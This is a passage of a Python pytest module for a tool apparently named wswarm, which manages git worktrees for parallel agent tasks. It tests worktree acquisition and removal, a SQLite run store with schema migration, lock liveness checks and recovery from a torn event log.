def test_diff_text_keeps_undecodable_bytes(repo: Repo) -> None:
    base = sha(repo, "HEAD")
    (repo.path / "latin1.txt").write_bytes(b"caf\xe9\n")
    head = Sha(repo.commit_all("latin-1"))
    text = diff_text(gitrepo(repo), base, head)
    assert "+caf\udce9" in text.split("\n")


# -- worktrees ----------------------------------------------------------------------------------


def test_fresh_worktrees_acquire_and_release(repo: Repo, tmp_path: Path) -> None:
    g = gitrepo(repo)
    base = sha(repo, "HEAD")
    pool = FreshWorktrees(g, tmp_path / "wts")
    branch = task_branch(RUN, "a/b", 1)

    path = pool.acquire(name=f"{RUN}--a%2Fb--1", branch=branch, start=base)

    assert path == tmp_path / "wts" / f"{RUN}--a%2Fb--1"
    assert (path / "app" / "core.py").read_text() == "VALUE = 1\n"
    assert git(path, "symbolic-ref", "HEAD") == f"refs/heads/{branch}"
    assert git(path, "rev-parse", "HEAD") == base
    assert WorktreeInfo(path, base, branch, False, False) in list_worktrees(g)
    with pytest.raises(CommandError):                  # the branch is new: a second acquire must fail
        pool.acquire(name="other", branch=branch, start=base)

    pool.release(path, keep=True)
    assert path.is_dir()
    pool.release(path, keep=False)
    assert not path.exists()
    assert [w.path for w in list_worktrees(g)] == [repo.path]
    assert g.branch_sha(branch) == base                # the branch outlives its worktree
    assert repo.git("status", "--porcelain") == ""


def test_list_worktrees_parses_every_kind(repo: Repo, tmp_path: Path) -> None:
    g = gitrepo(repo)
    head = sha(repo, "HEAD")
    on_branch = tmp_path / "wt with space"
    detached = tmp_path / "detached"
    locked = tmp_path / "locked"
    locked_plain = tmp_path / "locked-plain"
    gone = tmp_path / "gone"
    repo.git("worktree", "add", "-q", "-b", "wswarm/x/tasks/a%2Fb/1", str(on_branch))
    repo.git("worktree", "add", "-q", "--detach", str(detached))
    repo.git("worktree", "add", "-q", "-b", "locked", str(locked))
    repo.git("worktree", "lock", "--reason", "keep me\nplease", str(locked))
    repo.git("worktree", "add", "-q", "--detach", str(locked_plain))
    repo.git("worktree", "lock", str(locked_plain))
    repo.git("worktree", "add", "-q", "--detach", str(gone))
    shutil.rmtree(gone)

    infos = list_worktrees(g)

    assert infos == [
        WorktreeInfo(repo.path, head, BranchName("main"), False, False),
        WorktreeInfo(detached, head, None, False, False),
        WorktreeInfo(gone, head, None, False, True),
        WorktreeInfo(locked, head, BranchName("locked"), True, False),
        WorktreeInfo(locked_plain, head, None, True, False),
        WorktreeInfo(on_branch, head, BranchName("wswarm/x/tasks/a%2Fb/1"), False, False),
    ]


def test_list_worktrees_while_the_main_checkout_is_detached(repo: Repo) -> None:
    head = sha(repo, "HEAD")
    repo.git("checkout", "-q", "--detach")
    assert list_worktrees(gitrepo(repo)) == [WorktreeInfo(repo.path, head, None, False, False)]


def test_remove_worktree_when_its_folder_is_already_gone(repo: Repo, tmp_path: Path) -> None:
    g = gitrepo(repo)
    base = sha(repo, "HEAD")
    pool = FreshWorktrees(g, tmp_path / "wts")
    branch = task_branch(RUN, "t", 1)
    path = pool.acquire(name="gone", branch=branch, start=base)
    shutil.rmtree(path)

    remove_worktree(g, path)

    assert [w.path for w in list_worktrees(g)] == [repo.path]
    assert not (repo.path / ".git" / "worktrees" / "gone").exists()
    repo.git("branch", "-D", branch)                   # no longer "checked out" anywhere


def test_remove_worktree_that_is_dirty_and_locked(repo: Repo, tmp_path: Path) -> None:
    g = gitrepo(repo)
    path = FreshWorktrees(g, tmp_path / "wts").acquire(name="busy", branch=task_branch(RUN, "t", 1),
                                                       start=sha(repo, "HEAD"))
    (path / "app" / "core.py").write_text("VALUE = 99\n")
    (path / "scratch.txt").write_text("untracked\n")
    repo.git("worktree", "lock", "--reason", "agent running", str(path))

    remove_worktree(g, path)

    assert not path.exists()
    assert [w.path for w in list_worktrees(g)] == [repo.path]


# -- the run's state --------------------------------------------------------------------------------


def new_store(state: Path, run_id: str = str(RUN), tasks: tuple[str, ...] = ("a", "b/c")) -> RunStore:
    return RunStore.create(state / "runs" / run_id, run_id=RunId(run_id), base="b" * 40, base_ref="HEAD",
                           integration_branch=integration_branch(RunId(run_id)), plan_json="[]",
                           task_ids=list(tasks), options={"agents": 2, "agent_cmd": None})


def test_run_store_create(tmp_path: Path) -> None:
    store = new_store(tmp_path)
    try:
        run = store.run()
        assert (run.id, run.state, run.base, run.base_ref, run.integration_branch, run.plan, run.options,
                run.finished, run.cost_usd) == (RUN, "running", "b" * 40, "HEAD", integration_branch(RUN), "[]",
                                                {"agents": 2, "agent_cmd": None}, None, 0.0)
        assert [(t.id, t.position, t.status, t.attempts) for t in store.tasks()] == \
            [("a", 0, "pending", 0), ("b/c", 1, "pending", 0)]
        assert store.attempts() == []
        with pytest.raises(RunNotFoundError):
            store.task("zz")
        assert store.attempt_dir("b/c", 1) == store.dir / "attempts" / "b%2Fc" / "1"
        assert store.effective_state() == "interrupted"          # nobody holds the lock
    finally:
        store.close()
    db = sqlite3.connect(tmp_path / "runs" / RUN / "state.db")
    try:
        tables = {r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert tables == {"meta", "run", "tasks", "attempts"}
        assert db.execute("SELECT value FROM meta WHERE key = 'schema'").fetchall() == [("2",)]
        assert db.execute("PRAGMA journal_mode").fetchall() == [("wal",)]
    finally:
        db.close()


def test_a_run_of_an_older_wswarm_is_brought_up_to_date_and_one_of_a_newer_is_refused(tmp_path: Path) -> None:
    store = RunStore.create(tmp_path / "runs" / RUN, run_id=RUN, base="b" * 40, base_ref="main",
                            integration_branch="wswarm/x/integration", plan_json="[]", task_ids=["a"], options={})
    store.close()
    db = sqlite3.connect(tmp_path / "runs" / RUN / "state.db", isolation_level=None)
    for column in ("integration_head", "integration_pending"):          # as version 1 made it
        db.execute(f"ALTER TABLE run DROP COLUMN {column}")
    db.execute("UPDATE meta SET value = '1' WHERE key = 'schema'")
    store = RunStore.open(tmp_path / "runs" / RUN)
    try:
        assert store.run().integration_head is None          # readers see the old shape as it is
        store.migrate()
        store.set_run(integration_head="c" * 40)
        assert store.run().integration_head == "c" * 40
    finally:
        store.close()
    db.execute("UPDATE meta SET value = '3' WHERE key = 'schema'")
    db.close()
    with pytest.raises(UsageError, match="made by a newer wswarm"):
        RunStore.open(tmp_path / "runs" / RUN)
    with pytest.raises(FileExistsError):
        new_store(tmp_path)
    with pytest.raises(RunNotFoundError):
        RunStore.open(tmp_path / "runs" / "nope")


HOLDER = """\
import sys, time
from pathlib import Path
from worktree_swarm.store.run_store import RunStore
store = RunStore.open(Path(sys.argv[1]))
print("locked" if store.acquire_lock() else "refused", flush=True)
time.sleep(120)
"""


def test_liveness_follows_a_real_process_holding_the_lock(tmp_path: Path) -> None:
    store = new_store(tmp_path)
    store.close()
    child = subprocess.Popen([sys.executable, "-c", HOLDER, str(store.dir)], stdout=subprocess.PIPE, text=True,
                             stdin=subprocess.DEVNULL)
    try:
        assert child.stdout is not None
        assert child.stdout.readline() == "locked\n"
        watcher = RunStore.open(store.dir)
        try:
            assert watcher.is_live()
            assert watcher.effective_state() == "running"
            assert not watcher.acquire_lock()
            assert (store.dir / "run.lock").read_text() == str(child.pid)

            child.send_signal(signal.SIGKILL)
            assert child.wait(timeout=10) == -signal.SIGKILL

            assert not watcher.is_live()
            assert watcher.effective_state() == "interrupted"
            assert watcher.acquire_lock()
            assert watcher.is_live() and watcher.effective_state() == "running"
        finally:
            watcher.close()
        assert not RunStore.open(store.dir).is_live()
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
        if child.stdout is not None:
            child.stdout.close()


def test_a_finished_run_is_not_interrupted(tmp_path: Path) -> None:
    store = new_store(tmp_path)
    try:
        store.set_run(state="finished")
        assert store.effective_state() == "finished"
    finally:
        store.close()


def test_events_skip_a_torn_last_line(tmp_path: Path) -> None:
    store = new_store(tmp_path)
    try:
        first = store.event("run-started", run=RUN, tasks=2)
        second = store.event("task-started", task="b/c", attempt=1, note="ünïcode")
    finally:
        store.close()
    with open(store.dir / "events.jsonl", "a", encoding="utf-8") as f:
        f.write('{"ts": 1.0, "kind": "task-fin')          # the crash cut this write short
    reopened = RunStore.open(store.dir)
    try:
        assert reopened.events() == [first, second]
        assert second == {"ts": second["ts"], "kind": "task-started", "task": "b/c", "attempt": 1, "note": "ünïcode"}
    finally:
        reopened.close()


# Found here: the first event after a crash was appended to the torn fragment and lost with it.
def test_events_after_a_torn_last_line_are_kept(tmp_path: Path) -> None:
    store = new_store(tmp_path)
    store.event("run-started", run=RUN)
    store.close()
    with open(store.dir / "events.jsonl", "a", encoding="utf-8") as f:
        f.write('{"ts": 1.0, "kind": "task-fin')
    resumed = RunStore.open(store.dir)
    try:
        assert resumed.acquire_lock()            # only the run's driver repairs the log
        resumed.event("run-resumed", run=RUN)
        assert [e["kind"] for e in resumed.events()] == ["run-started", "run-resumed"]
    finally:
        resumed.close()


def test_find_run_by_newest_name_and_prefix(tmp_path: Path) -> None:
    names = ["20240101-000000-aaaa", "20240101-000000-aaab", "20240202-000000-bbbb"]
    for name in names:
        new_store(tmp_path, name).close()
    (tmp_path / "runs" / "not-a-run").mkdir()
    assert [p.name for p in list_runs(tmp_path)] == names
    assert find_run(tmp_path, None).name == "20240202-000000-bbbb"
    assert find_run(tmp_path, "20240101-000000-aaab").name == "20240101-000000-aaab"
    assert find_run(tmp_path, "202402").name == "20240202-000000-bbbb"
    with pytest.raises(RunNotFoundError) as info:
        find_run(tmp_path, "20240101")
    assert info.value.message == "no run named '20240101' (ambiguous prefix)"
    with pytest.raises(RunNotFoundError) as info:
        find_run(tmp_path / "elsewhere", None)
    assert info.value.message == "this repository has no wswarm runs yet"
    newest = RunStore.open(find_run(tmp_path, None))
    try:
        assert json.loads(newest.run().plan) == [] and newest.run().id == "20240202-000000-bbbb"
    finally:
        newest.close()
